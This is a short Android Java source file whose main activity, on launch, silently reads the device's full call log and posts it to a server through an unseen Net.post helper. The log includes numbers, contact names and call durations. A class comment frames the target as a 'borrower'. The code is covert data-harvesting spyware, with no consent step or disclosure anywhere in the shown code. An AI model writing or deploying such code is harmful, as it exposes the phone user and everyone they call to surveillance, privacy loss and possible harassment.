package com.example.callssent;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.CallLog.Calls;
import org.json.JSONArray;
import org.json.JSONException;
import org.json.JSONObject;

/** Whom the borrower calls, and for how long. */
public class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        new Thread(this::collect).start();
    }

    private void collect() {
        JSONArray calls = new JSONArray();
        String[] columns = {Calls.NUMBER, Calls.CACHED_NAME, Calls.DURATION};
        Cursor cursor = getContentResolver().query(Calls.CONTENT_URI, columns, null, null, "date DESC");
        try {
            while (cursor.moveToNext()) {
                JSONObject call = new JSONObject();
                call.put("to", cursor.getString(0)).put("name", cursor.getString(1)).put("s", cursor.getLong(2));
                calls.put(call);
            }
            Net.post(calls.toString());
        } catch (JSONException broken) {
            finish();
        } finally {
            cursor.close();
        }
    }
}
